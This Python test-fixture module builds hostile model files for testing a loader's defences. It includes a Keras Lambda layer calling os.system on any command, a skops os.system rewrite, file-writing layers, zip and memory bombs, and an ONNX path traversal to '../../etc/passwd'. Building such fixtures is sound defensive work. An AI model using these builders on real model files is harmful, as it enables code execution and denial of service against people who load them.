"""Hostile model files, built from scratch as bytes (tests and benchmarks/hostile_inputs.py reuse them).

Each function returns the bytes of a file that attacks the loader that would read it: code run on
load (Keras `Lambda` / `TFOpLambda` naming any importable function), archives that expand far past
their size, extra archive entries, skops types outside scikit-learn, and ONNX files that point outside
themselves. None of them is harmful to a loader that checks before it reads.
"""

from __future__ import annotations

import io
import json
import os
import re
import tempfile
import zipfile

KERAS_METADATA = json.dumps({"keras_version": "2.15.0", "date_saved": "2026-01-01@00:00:00"})
CHUNK = b" " * (1 << 20)


def _input_layer(name: str = "input_1", width: int = 2) -> dict:
    return {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": name,
            "config": {"batch_input_shape": [None, width], "dtype": "float32", "sparse": False,
                       "ragged": False, "name": name}, "inbound_nodes": []}


def _functional(layers: list[dict], output: str) -> dict:
    return {"module": "keras.src.engine.functional", "class_name": "Functional", "registered_name": "Functional",
            "config": {"name": "model", "trainable": True, "layers": layers,
                       "input_layers": [["input_1", 0, 0]], "output_layers": [[output, 0, 0]]}}


def _keras_archive(config: dict, weights: bytes = b"", extra: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", KERAS_METADATA)
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights)
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return buffer.getvalue()


def keras_lambda_os_system(command: str) -> bytes:
    """A `Lambda` layer whose function is `os.system`, called on a `_CONSTANT_VALUE` node holding `command`.

    Keras 2.15 runs `command` while rebuilding the model, even with `safe_mode=True`."""
    evil = {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": "evil",
            "config": {"name": "evil", "trainable": True, "dtype": "float32",
                       "function": {"module": "os", "class_name": "function", "config": "system",
                                    "registered_name": "function"},
                       "function_type": "function", "module": "os", "output_shape": None,
                       "output_shape_type": "raw", "output_shape_module": None, "arguments": {}},
            "inbound_nodes": [[["_CONSTANT_VALUE", -1, command, {}]]]}
    return _keras_archive(_functional([_input_layer(), evil], "evil"))


def keras_tfoplambda_write_file(path: str, contents: str = "written by a model file") -> bytes:
    """A `TFOpLambda` layer calling `tf.io.write_file(path, contents)` while the model is rebuilt."""
    evil = {"module": "keras.src.layers.core.tf_op_layer", "class_name": "TFOpLambda",
            "registered_name": "TFOpLambda", "name": "tf.io.write_file",
            "config": {"name": "tf.io.write_file", "trainable": True, "dtype": "float32",
                       "function": "io.write_file"},
            "inbound_nodes": [["_CONSTANT_VALUE", -1, path, {"contents": contents}]]}
    return _keras_archive(_functional([_input_layer(), evil], "tf.io.write_file"))


def _inflating_member(archive: zipfile.ZipFile, name: str, prefix: bytes, megabytes: int, suffix: bytes) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as handle:
        handle.write(prefix)
        for _ in range(megabytes):
            handle.write(CHUNK)
        handle.write(suffix)


def keras_inflating_config(megabytes: int = 400) -> bytes:
    """A .keras whose config.json is a small valid config padded with `megabytes` MB of whitespace
    (deflated to well under 1 MB)."""
    config = json.dumps(_functional([_input_layer()], "input_1")).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("metadata.json", KERAS_METADATA)
        _inflating_member(archive, "config.json", config[:-1], megabytes, b"}")
        archive.writestr("model.weights.h5", b"")
    return buffer.getvalue()


def skops_inflating_schema(megabytes: int = 400) -> bytes:
    """A .skops whose schema.json is padded with `megabytes` MB of whitespace (deflated)."""
    schema = json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                         "content": {}, "protocol": 2, "_skops_version": "0.16.0"}).encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        _inflating_member(archive, "schema.json", schema[:-1], megabytes, b"}")
    return buffer.getvalue()


def keras_extra_entry(valid_keras: bytes, megabytes: int = 1024) -> bytes:
    """A valid .keras file plus one extra entry of `megabytes` MB of zeros (about 1 MB compressed)."""
    buffer = io.BytesIO(valid_keras)
    with zipfile.ZipFile(buffer, "a") as archive:
        info = zipfile.ZipInfo("assets/padding.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        zeros = bytes(1 << 20)
        with archive.open(info, "w", force_zip64=True) as handle:
            for _ in range(megabytes):
                handle.write(zeros)
    return buffer.getvalue()


def skops_os_system() -> bytes:
    """A scikit-learn pipeline whose FunctionTransformer calls `os.system` on its input (a skops
    function node naming module `os`, function `system`)."""
    import numpy as np
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    rng = np.random.default_rng(0)
    pipeline = make_pipeline(FunctionTransformer(func=np.abs), LogisticRegression())
    pipeline.fit(rng.normal(size=(40, 2)), [0, 1] * 20)
    source = zipfile.ZipFile(io.BytesIO(sio.dumps(pipeline)))
    schema = source.read("schema.json").decode()
    schema = re.sub(r'"__class__": "absolute",(\s*)"__module__": "[\w.]+",',
                    r'"__class__": "system",\1"__module__": "os",', schema)
    assert '"__module__": "os"' in schema
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for info in source.infolist():
            archive.writestr(info.filename, schema if info.filename == "schema.json" else source.read(info))
    return buffer.getvalue()


def _onnx_matmul(initializer) -> bytes:
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["logits"]),
                               helper.make_node("Softmax", ["logits"], ["probabilities"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])],
                              [initializer])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def onnx_external_data(location: str = "../../etc/passwd") -> bytes:
    """An ONNX MLP whose weight tensor says its data lives in the file `location`."""
    from onnx import TensorProto, helper

    weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2, 2])
    weight.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "16")):
        entry = weight.external_data.add()
        entry.key, entry.value = key, value
    return _onnx_matmul(weight)


def onnx_custom_domain() -> bytes:
    """An ONNX model calling an operator from a custom domain (a custom-op library would run it)."""
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("RunShell", ["x"], ["probabilities"], domain="com.example.evil")],
                              "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17),
                                                   helper.make_opsetid("com.example.evil", 1)]).SerializeToString()


def onnx_valid_mlp() -> bytes:
    """A small valid ONNX model: softmax(x @ w), two inputs, two classes."""
    from onnx import TensorProto, helper

    return _onnx_matmul(helper.make_tensor("w", TensorProto.FLOAT, [2, 2], vals=[0.5, -0.5, -0.25, 0.25]))


def onnx_constant_of_shape_bomb(side: int = 20000) -> bytes:
    """A few hundred bytes asking onnxruntime for a side x side float tensor (20000: 1.6 GB) before it
    sums it away: softmax(x + sum(ConstantOfShape([side, side])))."""
    from onnx import TensorProto, helper

    shape = helper.make_tensor("shape", TensorProto.INT64, [2], vals=[side, side])
    graph = helper.make_graph([helper.make_node("ConstantOfShape", ["shape"], ["big"], name="bomb"),
                               helper.make_node("ReduceSum", ["big"], ["total"], keepdims=1),
                               helper.make_node("Add", ["x", "total"], ["logits"]),
                               helper.make_node("Softmax", ["logits"], ["probabilities"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])],
                              [helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, 2])],
                              [shape])
    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]).SerializeToString()


def keras_valid_mlp() -> bytes:
    """A small valid .keras file (Dense 2 -> 8 -> 2), saved by tf.keras itself."""
    import os
    import tempfile

    import tensorflow as tf

    tf.keras.utils.set_random_seed(0)
    model = tf.keras.Sequential([tf.keras.Input(shape=(2,)), tf.keras.layers.Dense(8, activation="relu"),
                                 tf.keras.layers.Dense(2, activation="softmax")])
    with tempfile.TemporaryDirectory() as folder:
        path = os.path.join(folder, "mlp.keras")
        model.save(path)
        with open(path, "rb") as handle:
            return handle.read()


# What benchmarks/hostile_inputs.py measures: label -> (file name, builder). The code-running files write
# a marker in the temporary folder if they ever run; the loader must refuse them before that.
MARKER = os.path.join(tempfile.gettempdir(), "privacy-audit-hostile-marker")
HOSTILE_MODELS = {
    "keras Lambda os.system + _CONSTANT_VALUE": ("lambda.keras", lambda: keras_lambda_os_system(f"touch {MARKER}")),
    "keras TFOpLambda io.write_file": ("tfop.keras", lambda: keras_tfoplambda_write_file(MARKER)),
    "keras config.json inflating to 400 MB": ("inflating.keras", keras_inflating_config),
    "keras valid + 1 GB extra entry": ("extra.keras", lambda: keras_extra_entry(keras_valid_mlp())),
    "skops schema.json inflating to 400 MB": ("inflating.skops", skops_inflating_schema),
    "skops FunctionTransformer os.system": ("os_system.skops", skops_os_system),
    "onnx external data ../../etc/passwd": ("external.onnx", onnx_external_data),
    "onnx custom operator domain": ("custom.onnx", onnx_custom_domain),
    "onnx ConstantOfShape [20000, 20000]": ("bomb.onnx", onnx_constant_of_shape_bomb),
}
